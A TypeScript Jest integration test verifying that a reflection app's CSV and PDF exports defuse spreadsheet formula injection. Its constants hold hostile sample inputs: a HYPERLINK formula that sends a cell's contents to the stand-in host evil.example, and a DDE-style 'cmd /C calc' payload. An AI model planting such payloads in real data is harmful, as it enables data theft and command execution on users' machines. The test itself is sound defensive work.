import { RoleId, type TakeView } from '@gc/contracts';
import { createSignedInUser, type SignedInUser } from '../../../test-support/identity';
import { binaryBody, pdfText } from '../../../test-support/pdf-text';
import {
  completeAnswers,
  createReflectionsTestApp,
  createReflectionsWorld,
  draftFromBaseline,
  inHours,
  type ReflectionsWorld,
} from '../../../test-support/reflections-test-kit';
import type { TestApp } from '../../../test-support/test-app';

jest.setTimeout(120_000);

/** What a member may call themself (the profile takes any text) and what a spreadsheet would run. */
const EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A2,"Open")';
const EVIL_REFLECTION = '+Quarterly @Candour -cmd';
const EVIL_COMMENT = '@SUM(1+9)*cmd|" /C calc"!A0';

/** What a spreadsheet reads as the start of a formula (OWASP, CSV injection). */
const FORMULA_START = /^[=+\-@\t\r]/;
/** A figure: the one kind of cell that may start with '-' (none does today: ratings are 0 to 4). */
const PLAIN_NUMBER = /^-?\d+(?:\.\d+)?$/;

/**
 * The cells of a CSV document (RFC 4180: quoted cells with doubled quotes, commas and line breaks inside them).
 * Not contracts' `splitCsvLine`: that one trims cells (a leading tab would vanish) and reads one line at a time.
 */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n' || (c === '\r' && text[i + 1] === '\n')) {
      if (c === '\r') i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (quoted) throw new Error('unterminated quoted cell');
  if (cell !== '' || row.length) rows.push([...row, cell]);
  return rows;
}

describe('results exports with hostile names', () => {
  let t: TestApp;
  let a: ReflectionsWorld;
  /** a receiver who names themself with a spreadsheet formula */
  let evil: SignedInUser;
  let id: string;
  let closedAt = '';

  const http = () => t.http();

  beforeAll(async () => {
    t = await createReflectionsTestApp();
    a = await createReflectionsWorld(t, 'Spreadsheet');
    evil = a.bystander;
    // the member names themself in their profile
    await evil
      .auth(http().put(`/api/users/${evil.email}`))
      .send({ data: { name: EVIL_NAME, phone_number: evil.phone, alternate_email: '' } })
      .expect(200);
    // a fourth rater, and a receiver who never submits (so that the administrator closes the reflection)
    const extra = await createSignedInUser(t, { role: RoleId.User, clientId: a.clientId, name: 'Eli Extra' });
    const late = await createSignedInUser(t, { role: RoleId.User, clientId: a.clientId, name: 'Lou Late' });
    for (const member of [extra, late])
      await a.admin
        .auth(http().post(`/api/teams/${a.teamId}/members`))
        .send({ name: member.name, email: member.email, team_role: '2' })
        .expect(201);
    const draft = await draftFromBaseline(t, a.admin);
    id = draft.assessment_id;
    await a.admin
      .auth(http().patch(`/api/assessments/${id}`))
      .send({ assessment_name: EVIL_REFLECTION })
      .expect(200);
    await a.admin
      .auth(http().post(`/api/assessments/${id}/publish`))
      .send({
        team_id: a.teamId,
        launch_date: inHours(-1),
        due_date: inHours(24 * 7),
        members_with_roles: [
          { email: a.receiver.email, observer: false, reciever: true },
          { email: evil.email, observer: false, reciever: true },
          { email: extra.email, observer: false, reciever: true },
          { email: late.email, observer: false, reciever: true },
          { email: a.observer.email, observer: true, reciever: false },
        ],
      })
      .expect(201);
    // four members submit: every receiver who answers is rated by at least three others
    for (const who of [a.receiver, evil, extra, a.observer]) {
      const take: TakeView = (await who.auth(http().get(`/api/assessments/take/${id}`)).expect(200)).body.responseObj;
      await who
        .auth(http().post(`/api/assessments/take/${id}/complete`))
        .send({ answers: completeAnswers(take, EVIL_COMMENT) })
        .expect(201);
    }
    // 'Mark as Complete': the results are visible under any confidentiality rule
    const closed = await a.admin.auth(http().post(`/api/assessments/${id}/publish/admin_close`)).expect(201);
    closedAt = closed.body.position;
  });
  afterAll(() => t?.close());

  it('given a member named with a formula, when the administrator exports the CSV, then no cell can start a formula and the name shows behind a quote', async () => {
    const res = await a.admin
      .auth(http().get(`/api/stats/export.csv?assessment_id=${id}`))
      .set('X-Min-Position', closedAt)
      .expect(200);
    expect(res.headers['content-type']).toContain('text/csv');
    // the file is named after the reflection, without its formula characters
    expect(res.headers['content-disposition']).toBe('attachment; filename="Quarterly-Candour--cmd.csv"');

    const rows = parseCsv(res.text);
    expect(rows[0]).toEqual(['chart', 'category', 'question', 'about', 'measure', 'value', 'raters', 'note']);
    const cells = rows.flat();
    const dangerous = cells.filter((cell) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell));
    expect(dangerous).toEqual([]);
    // the member's rows are there, named verbatim behind the single quote
    const about = rows.slice(1).map((row) => row[3]);
    expect(about).toContain(`'${EVIL_NAME}`);
    expect(about).toContain(a.receiver.name);
    // figures are written as they were (everyone rated everyone 3)
    expect(rows.slice(1).map((row) => row[5])).toContain('3.00');
  });

  it('given the same names, when the PDF reports are read, then they show them verbatim as plain text', async () => {
    const report = (who: SignedInUser, receiverId?: string) =>
      who
        .auth(http().get(`/api/stats/report.pdf?assessment_id=${id}${receiverId ? `&receiver_id=${receiverId}` : ''}`))
        .set('X-Min-Position', closedAt)
        .buffer(true)
        .parse(binaryBody)
        .expect(200);
    for (const res of [await report(a.admin, evil.userId), await report(evil)]) {
      expect(res.headers['content-type']).toBe('application/pdf');
      expect(res.headers['content-disposition']).toMatch(/^attachment; filename="[\w.-]+\.pdf"$/);
      const text = await pdfText(res.body as Buffer);
      expect(text).toContain(EVIL_NAME);
      expect(text).toContain(EVIL_REFLECTION);
    }
  });
});
